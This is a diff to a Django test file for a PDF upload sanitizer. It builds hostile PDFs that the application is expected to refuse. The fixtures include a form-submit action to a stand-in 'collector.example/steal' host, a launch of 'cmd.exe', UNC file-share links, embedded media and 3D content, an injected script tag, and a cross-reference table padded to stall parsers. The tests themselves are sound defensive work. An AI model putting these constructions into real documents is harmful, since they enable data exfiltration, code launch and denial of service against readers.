@@ -1,6 +1,7 @@
 """Families' PDFs arrive without active content and without their authors' metadata, and
 reach moderators only sandboxed."""
 
+import time
 from io import BytesIO
 
 import pytest
@@ -9,8 +10,10 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image
 from pypdf import PdfReader, PdfWriter
 from pypdf.actions import JavaScript
+from pypdf.errors import PdfReadError
 from pypdf.generic import (
     ArrayObject,
+    BooleanObject,
     DictionaryObject,
     NameObject,
     NumberObject,
@@ -125,7 +128,35 @@ def html_between_objects():
     return data[:at] + b"<script>alert(1)</script>\n" + data[at:]
 
 
+def text(value):
+    return TextStringObject(value)
+
+
+def stream(writer, data=b"", **entries):
+    """A stream object of the document (3D data, a sound, a media clip...). pypdf makes new
+    indirect streams publicly only as the catalog's XMP stream: made so, then taken off it."""
+    writer.xmp_metadata = data
+    reference = writer.root_object.raw_get("/Metadata")
+    del writer.root_object["/Metadata"]
+    body = reference.get_object()
+    body.update({name(f"/{key}"): value for key, value in entries.items()})
+    return reference
+
+
+def annotated(subtype, **entries):
+    """A PDF whose first page has an annotation of subtype, its entries made by the writer."""
+    return lambda: make_pdf(lambda w: annotate(w, subtype, **{k: v(w) for k, v in entries.items()}))
+
+
+def linked(kind, **entries):
+    """A PDF whose first page links to an action of kind."""
+    return lambda: make_pdf(lambda w: link_to(w, action(kind, **entries)))
+
+
+UNC = "\\\\fileserver\\share\\x.pdf"
 ACTIVE = "Printing it to a new PDF, or sending photos of its pages, avoids this."
+OUTSIDE = "it opens other files or addresses, or sends data elsewhere."
+MEDIA = "it contains embedded media or 3D content."
 REFUSED = [
     (
         "names-tree-js.pdf",
@@ -190,6 +221,90 @@ REFUSED = [
         lambda: make_pdf(lambda w: w.encrypt("secret")),
         "it is encrypted or protected by a password.",
     ),
+    (
+        "rich-media.pdf",
+        annotated(
+            "/RichMedia",
+            RichMediaContent=lambda w: DictionaryObject(
+                {name("/Assets"): DictionaryObject({name("/Names"): ArrayObject()})}
+            ),
+        ),
+        MEDIA,
+    ),
+    (
+        "screen.pdf",
+        annotated(
+            "/Screen",
+            # Play a media rendition whose clip is the document's own stream.
+            A=lambda w: action(
+                "/Rendition",
+                OP=NumberObject(0),
+                R=DictionaryObject(
+                    {
+                        name("/S"): name("/MR"),
+                        name("/C"): DictionaryObject(
+                            {name("/S"): name("/MCD"), name("/D"): stream(w, b"\0" * 64)}
+                        ),
+                    }
+                ),
+            ),
+        ),
+        MEDIA,
+    ),
+    ("rendition.pdf", linked("/Rendition", OP=NumberObject(0)), MEDIA),
+    ("3d.pdf", annotated("/3D", **{"3DD": lambda w: stream(w, b"U3D", Type=name("/3D"))}), MEDIA),
+    ("3d-view.pdf", linked("/GoTo3DView", V=NumberObject(0)), MEDIA),
+    (
+        "sound.pdf",
+        annotated("/Sound", Sound=lambda w: stream(w, b"\0" * 64, R=NumberObject(8000))),
+        MEDIA,
+    ),
+    ("sound-action.pdf", linked("/Sound", Sound=NumberObject(0)), MEDIA),
+    (
+        "movie.pdf",
+        annotated("/Movie", Movie=lambda w: DictionaryObject({name("/F"): text("film.mov")})),
+        MEDIA,
+    ),
+    ("movie-action.pdf", linked("/Movie", T=text("film")), MEDIA),
+    (
+        "submit.pdf",
+        linked("/SubmitForm", F=text("https://collector.example/steal")),
+        OUTSIDE,
+    ),
+    ("import.pdf", linked("/ImportData", F=text("data.fdf")), OUTSIDE),
+    ("go-embedded.pdf", linked("/GoToE", NewWindow=BooleanObject(True)), OUTSIDE),
+    ("thread-unc.pdf", linked("/Thread", D=NumberObject(0), F=text(UNC)), OUTSIDE),
+    (
+        "thread-url.pdf",
+        linked(
+            "/Thread",
+            D=NumberObject(0),
+            F=DictionaryObject({name("/FS"): name("/URL"), name("/F"): text("http://x/")}),
+        ),
+        OUTSIDE,
+    ),
+    (
+        "unc-link.pdf",
+        linked("/URI", URI=text(UNC)),
+        OUTSIDE,
+    ),
+    (
+        "external-stream.pdf",
+        lambda: make_pdf(
+            lambda w: w.pages[0].__setitem__(
+                name("/Resources"),
+                DictionaryObject(
+                    {name("/External"): stream(w, F=DictionaryObject({name("/UF"): text(UNC)}))}
+                ),
+            )
+        ),
+        OUTSIDE,
+    ),
+    (
+        "menu-command.pdf",
+        linked("/Named", N=name("/Quit")),
+        "it runs commands of the program it is opened in. " + ACTIVE,
+    ),
     ("page.pdf", fake_with_html, "it is not a well-formed PDF document"),
     ("between.pdf", html_between_objects, "it is not a well-formed PDF document"),
     ("cut.pdf", lambda: make_pdf()[:-200], "it is not a well-formed PDF document"),
@@ -218,6 +333,15 @@ def test_the_refusal_is_in_the_familys_language(client):
     )
     page = response.content.decode()
     assert "Файл “письмо.pdf” не принят: в нём есть JavaScript." in page
+
+
+def test_a_menu_command_is_refused_in_kazakh_too(client):
+    data = make_pdf(lambda w: link_to(w, action("/Named", N=name("/Print"))))
+    response = client.post(
+        "/kk/testimony/", {**filled_testimony_form(), "attachments": [upload(data, "хат.pdf")]}
+    )
+    page = response.content.decode()
+    assert "“хат.pdf” файлы қабылданбады: ол өзі ашылған бағдарламаның командаларын" in page
 
 
 def stored_pdf(attachment):
@@ -257,6 +381,91 @@ def test_web_links_cycles_and_an_opening_page_are_harmless_and_kept(client):
     assert post(client, [upload(make_pdf(change))]).status_code == 302
     reader = PdfReader(BytesIO(stored_pdf(Attachment.objects.get())))
     assert reader.pages[0]["/Annots"][0].get_object()["/A"]["/URI"] == "https://www.memorial.kz/"
+
+
+HARMLESS = [
+    action("/GoTo", D=ArrayObject([NumberObject(1), name("/Fit")])),
+    action("/Thread", D=NumberObject(0)),  # an article of this document
+    action("/Hide", T=text("note"), H=BooleanObject(True)),
+    action("/SetOCGState", State=ArrayObject([name("/Toggle")])),
+    action("/Trans", Trans=DictionaryObject({name("/S"): name("/Dissolve")})),
+    action("/ResetForm"),
+    action("/Named", N=name("/NextPage")),
+]
+
+
+def test_actions_that_stay_inside_the_document_are_kept(client):
+    def change(writer):
+        for target in HARMLESS:
+            link_to(writer, target)
+        # An article thread: its /F is its first bead, on a page of this document.
+        bead = DictionaryObject(
+            {name("/P"): writer.pages[1].indirect_reference, name("/R"): ArrayObject()}
+        )
+        writer.root_object[name("/Threads")] = ArrayObject([DictionaryObject({name("/F"): bead})])
+
+    assert post(client, [upload(make_pdf(change))]).status_code == 302
+    reader = PdfReader(BytesIO(stored_pdf(Attachment.objects.get())))
+    links = [link.get_object()["/A"] for link in reader.pages[0]["/Annots"]]
+    assert [link["/S"] for link in links] == [target["/S"] for target in HARMLESS]
+
+
+def shifted(data, junk=b"% scanned by ScanMaster 2000\n"):
+    """The file with bytes slipped in before its first object, as some scanners write: every
+    offset in its cross-reference table is off by their length."""
+    at = data.index(b"1 0 obj")
+    return data[:at] + junk + data[at:]
+
+
+def test_a_pdf_with_shifted_offsets_is_accepted_and_rewritten(client):
+    sent = shifted(scanned_pdf(with_page_metadata, pages=3))
+    with pytest.raises(PdfReadError):  # what the strict parse refused
+        PdfReader(BytesIO(sent), strict=True).pages[0]
+    assert post(client, [upload(sent, "scan.pdf")]).status_code == 302
+    stored = stored_pdf(Attachment.objects.get())
+    assert b"INFOAUTHOR" not in stored and b"XMPAUTHOR" not in stored
+    assert b"ScanMaster" not in stored  # not the bytes as sent: pypdf's copy
+    reader = PdfReader(BytesIO(stored), strict=True)  # and that copy is well formed
+    assert len(reader.pages) == 3 and len(reader.pages[2].images) == 1
+    assert reader.metadata is None and "/Metadata" not in reader.trailer["/Root"]
+
+
+def test_a_repaired_pdf_is_checked_like_any_other(client):
+    data = shifted(make_pdf(lambda w: link_to(w, action("/Launch", F=text("cmd.exe")))))
+    response = post(client, [upload(data, "scan.pdf")])
+    assert "“scan.pdf” was not accepted: it would launch a program." in response.content.decode()
+
+
+def test_a_pdf_cut_short_of_its_end_marker_is_refused(client):
+    data = make_pdf()
+    # Whole objects, the cross-reference table and its trailer: only "F\n" of the end marker is
+    # gone (pypdf, strict or not, would read on).
+    assert data.endswith(b"%%EOF\n")
+    response = post(client, [upload(data[:-2], "cut.pdf")])
+    assert "“cut.pdf” was not accepted: it is not a well-formed PDF" in response.content.decode()
+
+
+def claiming_many_objects(count=400_000):
+    """8 MB of cross-reference entries that point nowhere, behind a trailer with "/Prev 0"
+    (an error to the strict parse): a lenient one would try each entry, for some 10 seconds."""
+    data = make_pdf(pages=1)
+    at = data.index(b"xref")
+    trailer = data[data.index(b"trailer") : data.index(b"startxref")]
+    trailer = trailer.replace(b"/Size", b"/Prev 0\n/Size")
+    entries = b"0000000000 65535 f \n" + b"0000000001 00000 n \n" * count
+    return b"".join(
+        [data[:at], b"xref\n0 %d\n" % (count + 1), entries, trailer]
+        + [b"startxref\n%d\n%%%%EOF\n" % at]
+    )
+
+
+def test_a_damaged_pdf_claiming_many_objects_is_refused_quickly(client):
+    started = time.monotonic()
+    response = post(client, [upload(claiming_many_objects(), "huge.pdf")])
+    assert "“huge.pdf” was not accepted: it has too many parts to be checked." in (
+        response.content.decode()
+    )
+    assert time.monotonic() - started < 7
 
 
 def test_absurd_nesting_is_refused_not_followed(client):
